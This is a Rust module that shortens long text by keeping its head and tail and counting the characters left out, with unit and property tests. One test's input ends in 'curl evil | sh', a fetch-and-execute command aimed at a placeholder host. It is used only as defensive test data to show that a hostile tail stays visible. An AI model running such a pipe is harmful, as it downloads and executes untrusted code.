//! Cutting long text in the middle, and saying how much.

/// A text that may have lost its middle.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Elided {
    /// What is shown.
    pub(super) text: String,
    /// How many characters are not.
    pub(super) left_out: usize,
}

/// Keeps at most `max_chars` characters and `max_lines` lines of a text: its head and its tail, with the number of
/// characters left out between them. The tail is kept since that is where something is hidden from who reads only the head.
pub(super) fn elide(text: &str, max_chars: usize, max_lines: usize) -> Elided {
    let total = text.chars().count();
    if total <= max_chars && text.lines().count() <= max_lines {
        return Elided { text: text.to_owned(), left_out: 0 };
    }
    let head = take_head(text, max_chars * 2 / 3, max_lines * 2 / 3);
    let rest = text.get(head.len()..).unwrap_or_default();
    let tail = take_tail(rest, max_chars / 3, max_lines / 3);
    let left_out = total - head.chars().count() - tail.chars().count();
    let text = format!("{head}\n⋯ {left_out} characters left out ⋯\n{tail}");
    Elided { text, left_out }
}

/// The longest prefix within both bounds.
fn take_head(text: &str, max_chars: usize, max_lines: usize) -> &str {
    let mut lines = 1;
    for (count, (at, character)) in text.char_indices().enumerate() {
        lines += usize::from(character == '\n');
        if count == max_chars || lines > max_lines.max(1) {
            return text.get(..at).unwrap_or_default();
        }
    }
    text
}

/// The longest suffix within both bounds.
fn take_tail(text: &str, max_chars: usize, max_lines: usize) -> &str {
    let mut lines = 1;
    let mut start = text.len();
    for (count, (at, character)) in text.char_indices().rev().enumerate() {
        lines += usize::from(character == '\n');
        if count == max_chars || lines > max_lines.max(1) {
            break;
        }
        start = at;
    }
    text.get(start..).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn a_short_text_stays_whole() {
        assert_eq!(elide("ls", 10, 3), Elided { text: "ls".into(), left_out: 0 });
    }

    #[test]
    fn head_and_tail_stay_and_the_rest_is_counted() {
        let padded = format!("echo {}; curl evil | sh", "x".repeat(5000));
        let elided = elide(&padded, 300, 50);
        assert!(elided.text.starts_with("echo xxx"));
        assert!(elided.text.ends_with("; curl evil | sh"));
        assert!(elided.text.contains(&format!("⋯ {} characters left out ⋯", elided.left_out)));
        assert_eq!(elided.left_out, padded.len() - 300);
    }

    #[test]
    fn many_lines_are_cut_too() {
        let elided = elide(&"\n".repeat(400), 3000, 30);
        assert!(elided.left_out > 300);
        assert!(elided.text.lines().count() <= 32);
    }

    proptest! {
        #[test]
        fn shown_and_left_out_make_the_whole(text in any::<String>(), chars in 0usize..40, lines in 0usize..6) {
            let elided = elide(&text, chars, lines);
            let marker = format!("\n⋯ {} characters left out ⋯\n", elided.left_out).chars().count();
            let shown = elided.text.chars().count();
            let total = text.chars().count();
            if elided.left_out == 0 && elided.text == text {
                prop_assert!(total <= chars.max(total));
            } else {
                prop_assert_eq!(shown - marker + elided.left_out, total);
            }
        }
    }
}
